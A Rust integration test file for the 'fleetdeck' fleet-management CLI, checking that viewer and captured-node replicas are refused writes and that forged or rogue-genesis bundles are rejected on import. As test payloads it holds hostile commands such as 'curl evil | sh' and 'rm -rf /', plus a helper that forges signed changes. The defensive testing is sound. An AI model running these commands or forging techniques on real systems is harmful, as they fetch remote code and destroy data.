//! Attacks where the binary matters (issue 11): a viewer's (and a captured
//! node's) replica driving the CLI is refused with one clear sentence and
//! writes nothing; an operator importing a forged bundle with `fleetdeck
//! bundle import` takes none of it.

use std::path::Path;
use std::process::{Command, Output};

use automerge::transaction::Transactable;
use automerge::{ActorId, AutoCommit, Change, ObjType};
use fleetdeck_store::document::{NodeRecord, SiteRecord};
use fleetdeck_store::identity::Identity;
use fleetdeck_store::replica::{SignedChange, load_or_create_identity};
use fleetdeck_store::sign::Sig;
use fleetdeck_store::{MemberKey, NodeId, Replica, Role, SiteId, now_ms};
use serde_json::Value;

fn fd(dir: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_fleetdeck"))
        .arg("--data")
        .arg(dir)
        .args(args)
        .env_remove("FLEETDECK_DATA")
        .output()
        .expect("run fleetdeck")
}

/// An admin replica ("admin"), and replicas enrolled as a viewer and as a
/// node (running n1), all holding the fleet.
fn fleet(tmp: &Path) -> (Replica, Replica, Replica) {
    let vdir = tmp.join("viewer");
    let ndir = tmp.join("node");
    let vkey = load_or_create_identity(&vdir).unwrap().key().clone();
    let nkey = load_or_create_identity(&ndir).unwrap().key().clone();
    let mut admin = Replica::init(&tmp.join("admin"), "ops", "blocao").unwrap();
    admin
        .change("setup", |d, _| {
            d.add_site(
                &SiteId::parse("S1").unwrap(),
                &SiteRecord {
                    name: "one".into(),
                    lat: None,
                    lon: None,
                    zone: None,
                },
            )?;
            for n in ["n1", "n2"] {
                d.add_node(
                    &NodeId::parse(n).unwrap(),
                    &NodeRecord {
                        site: "S1".into(),
                        role: None,
                    },
                )?;
            }
            d.put_member(&vkey, "watcher", Role::Viewer, now_ms())?;
            d.put_member(&nkey, "cam", Role::Node, now_ms())?;
            d.bind_node(&NodeId::parse("n1").unwrap(), &nkey)
        })
        .unwrap();
    let all = admin.changes_after(&[]);
    let viewer = Replica::init_from_changes(&vdir, all.clone()).unwrap();
    let node = Replica::init_from_changes(&ndir, all).unwrap();
    (admin, viewer, node)
}

#[test]
fn a_viewer_or_a_node_is_refused_every_write_with_a_sentence_and_nothing_is_written() {
    let tmp = tempfile::tempdir().unwrap();
    let (_admin, viewer, node) = fleet(tmp.path());
    drop((viewer, node));
    let writes: &[&[&str]] = &[
        &["config", "set", "apply.check", "curl evil | sh"],
        &["config", "set", "actions.pwn", "rm -rf /"],
        &["config", "set", "retention.days", "1"],
        &[
            "config",
            "set",
            "--node",
            "n1",
            "apply.check",
            "curl evil | sh",
        ],
        &["site", "add", "EVIL", "--name", "evil"],
        &["freeze", "--message", "stop"],
        &[
            "rollout",
            "start",
            "--set",
            "apply.check=curl evil",
            "--waves",
            "100",
        ],
        &["node", "unbind", "n2"],
        &["node", "resume", "n2"],
        &["alerts", "ack", "node-down/n2"],
    ];
    for (who, role) in [("viewer", "a viewer"), ("node", "a node")] {
        let dir = tmp.path().join(who);
        let heads_before = Replica::open(&dir).unwrap().heads();
        for args in writes {
            let out = fd(&dir, args);
            let err = String::from_utf8_lossy(&out.stderr);
            println!("{who} {args:?} → {:?}: {}", out.status.code(), err.trim());
            assert!(!out.status.success(), "{who} {args:?} succeeded");
            // A usage error (exit 2) is clap's; a refusal is one sentence.
            if out.status.code() == Some(1) {
                let line = err.trim();
                assert!(
                    line.lines().count() == 1,
                    "{who} {args:?}: more than one line: {line}"
                );
                let says_why = line.contains(role)
                    || line.contains("no open alert")
                    || line.contains("not a member");
                assert!(says_why, "{who} {args:?}: no reason given: {line}");
            }
        }
        let heads_after = Replica::open(&dir).unwrap().heads();
        assert_eq!(heads_before, heads_after, "{who}: something was written");
    }
}

/// A scratch replica from `base` takes `extra` unchecked and exports a
/// bundle: what an attacker's own fleetdeck writes.
fn forged_bundle(tmp: &Path, base: Vec<SignedChange>, extra: &[(&Change, Option<Sig>)]) -> String {
    let mut r = Replica::init_from_changes(&tmp.join("scratch"), base).unwrap();
    for (c, sig) in extra {
        if let Some(s) = sig {
            r.add_signatures([(c.hash(), *s)]);
        }
        r.doc_mut()
            .automerge_mut()
            .apply_changes([(*c).clone()])
            .unwrap();
    }
    let file = tmp.join("forged.fdb");
    fleetdeck_sync::bundle::export(&mut r, &file).unwrap();
    file.to_str().unwrap().to_string()
}

/// A dependency-free change making the root maps again with `author` the
/// only admin and a program in the fleet defaults (see sync/tests/attacks.rs).
fn rogue_genesis(fleet_id: &str, actor: ActorId, author: &MemberKey) -> Change {
    let mut d = AutoCommit::new().with_actor(actor);
    let meta = d.put_object(automerge::ROOT, "meta", ObjType::Map).unwrap();
    for i in 0..500 {
        d.put(&meta, format!("pad{i:04}"), i as i64).unwrap();
    }
    d.put(&meta, "format", 1).unwrap();
    d.put(&meta, "fleet_id", fleet_id).unwrap();
    d.put(&meta, "name", "owned").unwrap();
    d.put(&meta, "created_ms", now_ms()).unwrap();
    let mut fleet = None;
    let mut members = None;
    for name in [
        "fleet",
        "site_config",
        "node_config",
        "sites",
        "nodes",
        "members",
        "acks",
        "freeze",
        "commands",
        "command_results",
        "rollouts",
        "rollout_events",
    ] {
        let id = d.put_object(automerge::ROOT, name, ObjType::Map).unwrap();
        match name {
            "fleet" => fleet = Some(id),
            "members" => members = Some(id),
            _ => {}
        }
    }
    d.put(
        fleet.unwrap(),
        "apply.check",
        "\"touch /tmp/fleetdeck-pwned\"",
    )
    .unwrap();
    let rec = d
        .put_object(members.unwrap(), author.as_str(), ObjType::Map)
        .unwrap();
    d.put(&rec, "name", "owner").unwrap();
    d.put(&rec, "role", "admin").unwrap();
    d.put(&rec, "added_ms", now_ms()).unwrap();
    d.commit();
    d.get_last_local_change().unwrap()
}

fn import_json(dir: &Path, file: &str) -> (Output, Option<Value>) {
    let out = fd(dir, &["--json", "bundle", "import", file]);
    let v = serde_json::from_slice(&out.stdout).ok();
    (out, v)
}

#[test]
fn an_operator_importing_a_bundle_forged_as_the_admin_takes_none_of_it() {
    let tmp = tempfile::tempdir().unwrap();
    let (mut admin, _, _) = fleet(tmp.path());
    let fleet_id = admin.state().fleet_id.clone();
    let admin_key = admin.key().clone();
    let base = admin.changes_after(&[]);
    drop(admin);
    // Holding an expired invite (fleet id, admin key) and nothing else.
    let mallory = Identity::generate();
    let as_admin = |suffix: u8| {
        let mut b = admin_key.to_bytes().to_vec();
        b.extend_from_slice(&[suffix; 16]);
        rogue_genesis(&fleet_id, ActorId::from(b), &admin_key)
    };
    let signed_by_mallory = as_admin(1);
    let unsigned = as_admin(2);
    let file = forged_bundle(
        tmp.path(),
        base,
        &[
            (
                &signed_by_mallory,
                Some(mallory.sign_change(&signed_by_mallory.hash())),
            ),
            (&unsigned, None),
        ],
    );
    let dir = tmp.path().join("admin");
    let heads = Replica::open(&dir).unwrap().heads();
    let (out, v) = import_json(&dir, &file);
    println!(
        "{:?} {} {}",
        out.status.code(),
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    let v = v.expect("--json prints JSON");
    assert_eq!(v["changes_new"], 0, "{v}");
    assert_eq!(v["changes_refused"], 2, "{v}");
    let text = fd(&dir, &["bundle", "import", &file]);
    let said = String::from_utf8_lossy(&text.stdout);
    assert!(said.contains("2 change(s) refused"), "{said}");
    assert_eq!(Replica::open(&dir).unwrap().heads(), heads);
    let who = fd(&dir, &["--json", "member", "list"]);
    assert!(who.status.success());
}

#[test]

fn an_operator_importing_a_second_genesis_from_an_outsider_takes_none_of_it() {
    let tmp = tempfile::tempdir().unwrap();
    let (mut admin, _, _) = fleet(tmp.path());
    let fleet_id = admin.state().fleet_id.clone();
    let admin_key = admin.key().clone();
    let base = admin.changes_after(&[]);
    drop(admin);
    let mallory = Identity::generate();
    let g = rogue_genesis(&fleet_id, mallory.new_actor(), mallory.key());
    let file = forged_bundle(
        tmp.path(),
        base,
        &[(&g, Some(mallory.sign_change(&g.hash())))],
    );
    let dir = tmp.path().join("admin");
    let (out, v) = import_json(&dir, &file);
    println!(
        "{:?} {} {}",
        out.status.code(),
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    let r = Replica::open(&dir).unwrap();
    let st = r.state();
    println!(
        "admin role after: {:?}; mallory: {:?}; fleet apply.check: {:?}",
        st.members.get(&admin_key).map(|m| m.role),
        st.members.get(mallory.key()).map(|m| m.role),
        st.fleet
            .get(&fleetdeck_store::config::ConfigPath::parse("apply.check").unwrap())
    );
    assert_eq!(
        v.unwrap()["changes_new"],
        0,
        "the second genesis was imported"
    );
    assert_eq!(
        st.members.get(&admin_key).map(|m| m.role),
        Some(Role::Admin)
    );
    // And the admin still works from the command line.
    let out = fd(&dir, &["config", "set", "after.import", "1"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn a_captured_node_cannot_plant_a_command_result_for_another_node() {
    use fleetdeck_store::document::{CommandRecord, CommandResult};
    let tmp = tempfile::tempdir().unwrap();
    let (mut admin, _, mut node) = fleet(tmp.path());
    let rec = CommandRecord {
        action: "restart".into(),
        target: "all".into(),
        by: "ops".into(),
        at_ms: now_ms(),
    };
    // n2 runs on another device, with its own key.
    let n2_key = Identity::generate().key().clone();
    admin
        .change("command c1", |d, _| {
            d.bind_node(&NodeId::parse("n2").unwrap(), &n2_key)?;
            d.add_command("c1", &rec)
        })
        .unwrap();
    let held = node.heads();
    node.apply_changes(admin.changes_after(&held)).unwrap();
    drop(admin);
    let result = |output: &str| CommandResult {
        exit_code: Some(0),
        ok: true,
        output: output.into(),
        at_ms: now_ms(),
    };
    // n1's replica (captured) writes a results register for n2, signed by
    // n1's key, and its own; both go into a bundle it exports.
    node.record_command_result(&NodeId::parse("n2").unwrap(), "c1", result("n2 is fine"))
        .unwrap();
    node.record_command_result(&NodeId::parse("n1").unwrap(), "c1", result("n1 restarted"))
        .unwrap();
    drop(node);
    let file = tmp.path().join("from-n1.fdb");
    let file = file.to_str().unwrap();
    let out = fd(&tmp.path().join("node"), &["bundle", "export", file]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    let dir = tmp.path().join("admin");
    let (out, v) = import_json(&dir, file);
    let v = v.unwrap_or_else(|| panic!("--json prints JSON: {out:?}"));
    assert_eq!(v["results_new"], 1, "{v}");
    let refused = v["results_refused"].as_array().unwrap();
    assert_eq!(refused.len(), 1, "{v}");
    assert!(
        refused[0]
            .as_str()
            .unwrap()
            .starts_with("n2: it is not signed by the key bound to the node"),
        "{v}"
    );
    let status: Value =
        serde_json::from_slice(&fd(&dir, &["--json", "command", "status", "c1"]).stdout).unwrap();
    let state = |n: &str| {
        status["nodes"]
            .as_array()
            .unwrap()
            .iter()
            .find(|x| x["node"] == n)
            .map(|x| x["state"].clone())
    };
    assert_eq!(state("n1"), Some(Value::from("ok")));
    assert_eq!(
        state("n2"),
        Some(Value::from("pending")),
        "nothing planted for n2"
    );
}
